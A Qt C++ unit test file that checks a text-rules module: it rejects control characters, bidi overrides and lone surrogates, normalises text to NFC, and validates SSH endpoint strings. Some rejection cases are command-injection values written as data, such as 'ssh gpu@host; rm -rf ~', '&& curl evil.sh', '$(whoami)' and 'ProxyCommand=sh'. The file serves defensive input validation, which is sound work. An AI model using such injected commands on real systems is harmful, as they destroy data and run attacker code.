// The text rules every decoded text field is held to: control characters, bidi controls and
// line breaks are refused; text is NFC-normalised; endpoints follow the documented format.

#include "market/textrules.h"

#include <QtTest/QtTest>

using namespace Qt::StringLiterals;
using namespace everx;

class TestTextRules : public QObject
{
    Q_OBJECT

private slots:
    void characters_data();
    void characters();
    void normalisesToNfc();
    void endpoints_data();
    void endpoints();
};

void TestTextRules::characters_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<bool>("oneLine"); // accepted where one line is expected
    QTest::addColumn<bool>("manyLines"); // accepted where several are allowed

    QTest::newRow("plain") << u"eu-central"_s << true << true;
    QTest::newRow("empty") << QString() << true << true;
    QTest::newRow("accents and CJK") << u"Zürich 東京"_s << true << true;
    QTest::newRow("emoji (a surrogate pair)") << u"gpu \U0001F680"_s << true << true;
    QTest::newRow("tab") << u"a\tb"_s << false << false;
    QTest::newRow("NUL") << QString(u"a"_s + QChar(0) + u"b"_s) << false << false;
    QTest::newRow("ESC") << u"a\x1b[31mb"_s << false << false;
    QTest::newRow("DEL") << u"a\x7f"_s << false << false;
    QTest::newRow("C1 CSI U+009B") << u"a\u009b31m"_s << false << false;
    QTest::newRow("C1 NEL U+0085") << u"a\u0085b"_s << false << false;
    QTest::newRow("line feed") << u"a\nb"_s << false << true;
    QTest::newRow("carriage return") << u"a\rb"_s << false << false;
    QTest::newRow("CR LF") << u"a\r\nb"_s << false << false;
    QTest::newRow("line separator") << u"a\u2028b"_s << false << false;
    QTest::newRow("paragraph separator") << u"a\u2029b"_s << false << false;
    for (char16_t c = 0x202a; c <= 0x202e; ++c)
        QTest::addRow("bidi U+%04X", unsigned(c))
            << (u"ab"_s + QChar(c) + u"cd"_s) << false << false;
    for (char16_t c = 0x2066; c <= 0x2069; ++c)
        QTest::addRow("bidi isolate U+%04X", unsigned(c))
            << (u"ab"_s + QChar(c) + u"cd"_s) << false << false;
    QTest::newRow("lone high surrogate") << QString(QChar(0xd83d)) << false << false;
    QTest::newRow("lone low surrogate") << (u"a"_s + QChar(0xde80)) << false << false;
}

void TestTextRules::characters()
{
    QFETCH(QString, text);
    QFETCH(bool, oneLine);
    QFETCH(bool, manyLines);
    QCOMPARE(TextRules::problem(text, TextRules::Lines::One).isEmpty(), oneLine);
    QCOMPARE(TextRules::problem(text, TextRules::Lines::Many).isEmpty(), manyLines);
    if (!oneLine)
        QVERIFY2(TextRules::problem(text).contains(u"U+"_s)
                     || TextRules::problem(text).contains(u"surrogate"_s),
                 qPrintable(TextRules::problem(text)));
}

void TestTextRules::normalisesToNfc()
{
    const QString decomposed = u"Zu\u0308rich"_s; // u + combining diaeresis
    QCOMPARE(TextRules::normalized(decomposed), u"Z\u00fcrich"_s);
    QCOMPARE(TextRules::normalized(u"Z\u00fcrich"_s), u"Z\u00fcrich"_s);
}

void TestTextRules::endpoints_data()
{
    QTest::addColumn<QString>("endpoint");
    QTest::addColumn<bool>("accepted");

    QTest::newRow("ssh host") << u"ssh gpu1.example.com"_s << true;
    QTest::newRow("ssh user@ipv4") << u"ssh gpu@203.0.113.7"_s << true;
    QTest::newRow("ssh with port") << u"ssh gpu@203.0.113.7 -p 2222"_s << true;
    QTest::newRow("ssh single-label host") << u"ssh x"_s << true;
    QTest::newRow("ssh ipv6") << u"ssh root@[2001:db8::7] -p 22"_s << true;
    QTest::newRow("host:port") << u"gpu1.example.com:8888"_s << true;
    QTest::newRow("ipv6:port") << u"[2001:db8::7]:22"_s << true;
    QTest::newRow("ipv6 loopback:port") << u"[::1]:22"_s << true;

    QTest::newRow("empty") << QString() << false;
    QTest::newRow("ssh alone") << u"ssh"_s << false;
    QTest::newRow("url") << u"ssh://gpu1.example.com"_s << false;
    QTest::newRow("command after") << u"ssh gpu@host; rm -rf ~"_s << false;
    QTest::newRow("and-and") << u"ssh gpu@host && curl evil.sh"_s << false;
    QTest::newRow("substitution") << u"ssh $(whoami)@host"_s << false;
    QTest::newRow("backticks") << u"ssh `id`@host"_s << false;
    QTest::newRow("ssh option") << u"ssh -o ProxyCommand=sh gpu@host"_s << false;
    QTest::newRow("user starting with dash") << u"ssh -oProxyCommand@host"_s << false;
    QTest::newRow("two spaces") << u"ssh  gpu@host"_s << false;
    QTest::newRow("trailing newline") << u"ssh gpu@host\n"_s << false;
    QTest::newRow("port zero") << u"ssh gpu@host -p 0"_s << false;
    QTest::newRow("port too big") << u"host:65536"_s << false;
    QTest::newRow("host:port without port") << u"host:"_s << false;
    QTest::newRow("host with underscore") << u"ssh gpu@bad_host"_s << false;
    QTest::newRow("label starting with dash") << u"ssh gpu@-host"_s << false;
    QTest::newRow("not ipv6") << u"[12:34]:22"_s << false;
    QTest::newRow("ipv6 with two gaps") << u"[2001::db8::7]:22"_s << false;
    QTest::newRow("fullwidth letters") << u"ｓｓｈ host"_s << false;
    QTest::newRow("bidi override") << u"ssh gpu@host\u202e"_s << false;
}

void TestTextRules::endpoints()
{
    QFETCH(QString, endpoint);
    QFETCH(bool, accepted);
    const QString problem = TextRules::endpointProblem(endpoint);
    QVERIFY2(problem.isEmpty() == accepted, qPrintable(endpoint + u" -> "_s + problem));
}

QTEST_GUILESS_MAIN(TestTextRules)
#include "tst_textrules.moc"
